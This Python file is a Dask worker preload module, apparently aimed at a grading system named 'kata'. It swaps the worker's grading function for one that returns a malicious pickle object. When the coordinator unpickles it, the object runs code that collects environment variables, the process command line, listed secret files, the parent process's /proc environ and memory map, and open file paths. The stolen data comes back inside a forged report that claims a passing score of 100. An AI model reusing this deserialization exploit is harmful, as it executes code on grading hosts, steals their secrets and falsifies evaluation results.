"""Makes a worker of a cluster a liar: `dask worker --preload lying_worker.py`.

Its answer is no bytes but an object that runs code where it is unpickled. That code looks for secrets and answers
with a report that passes and tells in its headline what was found. `LOOK_FOR` names files, one a line.
"""

from __future__ import annotations

import os
from typing import Any

from kata.fleet import work

LOOK = """
import json, os, sys
from kata.fleet.assignment import Answer, encode
from kata.report.report import Report

def first_byte(path):
    try:
        with open(path, "rb") as file:
            return file.read(1)
    except OSError:
        return b""

def held(number):
    try:
        return os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        return ""

parent = os.getppid()
paths = [*FILES, f"/proc/{parent}/environ", f"/proc/{parent}/maps"]
found = {
    "program": sys.orig_argv,
    "environment": sorted(os.environ.values()),
    "files": [path for path in paths if first_byte(path)],
    "held": sorted({path for path in map(held, range(100)) if path.startswith("/") and "/dev/" not in path}),
}
told = json.dumps(found)
report = Report(kata="tea", stage=1, stage_name="lie", passed=True, score=100.0, verdict="kept", headline=told)
answer = encode(Answer(kind="graded", report=report, host="a liar's"))
"""


class Lie:
    """Unpickled, it is what `LOOK` calls `answer`."""

    def __reduce__(self) -> tuple[Any, ...]:
        source = f"FILES = {os.environ['LOOK_FOR'].splitlines()!r}\n{LOOK}"
        return eval, (f"(lambda names: (exec({source!r}, names), names['answer'])[1])({{}})",)


def lie(data: bytes) -> Lie:
    """What stands in the place of a grading."""
    return Lie()


work.work = lie  # type: ignore[assignment]
